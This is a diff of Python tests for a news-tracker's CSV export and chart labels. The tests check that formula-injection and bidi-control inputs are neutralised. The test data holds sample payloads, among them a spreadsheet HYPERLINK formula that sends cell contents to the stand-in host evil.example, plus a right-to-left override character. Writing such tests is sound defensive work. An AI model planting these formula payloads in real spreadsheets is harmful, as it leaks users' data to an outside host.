@@ -72,22 +72,22 @@ def _cells(data: bytes) -> list[dict[str, str]]:
 def test_dashboard_articles_csv_has_no_formula_and_no_bidi(hostile_db):
     """The dashboard's Articles CSV: the frame it exports, through the bytes it downloads."""
     from tracker.present.export import table_bytes
-    from tracker.ui.explore import _article_table
+    from tracker.present.tables import articles_table
 
     with Store(hostile_db, read_only=True) as store:
-        frame = _article_table(store.dashboard_articles([("BLR", "USA")]))
+        frame = articles_table(store.dashboard_articles([("BLR", "USA")]), for_csv=True)
     assert len(frame) == len(HOSTILE)
     rows = _cells(table_bytes(frame, "csv"))
     for row in rows:
-        for column in ("title", "outlet", "url"):
+        for column in ("Title", "Outlet", "URL"):
             cell = row[column]
             assert not cell.startswith(FORMULA_STARTS), (column, cell)
             assert not set(cell) & set(BIDI_CONTROLS), (column, cell)
-    titles = {row["title"] for row in rows}
+    titles = {row["Title"] for row in rows}
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in titles
     assert "'@SUM(A1:A9)" in titles
     assert "Belarus praises ASU and more" in titles
-    assert {row["tone"] for row in rows} and all(float(row["tone"]) > -1 for row in rows)
+    assert {row["Tone"] for row in rows} and all(float(row["Tone"]) > -1 for row in rows)
 
 
 def test_frame_csv_keeps_numbers_and_stored_data_unchanged(hostile_db):
@@ -122,11 +122,11 @@ def test_cli_csv_output_is_neutralised(tmp_path):
 def test_chart_hover_and_drilldown_show_no_bidi_control():
     import pandas as pd
 
-    from tracker.present import charts
-    from tracker.ui.drilldown import safe_inline
+    from tracker.present.labels import escape
+    from tracker.ui.safe_text import safe_inline
 
     title = "Belarus praises \u202eASU"
-    assert "\u202e" not in charts._escape(title)
+    assert "\u202e" not in escape(title)
     assert "&#8238;" not in safe_inline(title) and "\u202e" not in safe_inline(title)
     framed = pd.DataFrame({"title": [title]})
     from tracker.present.safe_text import display_frame
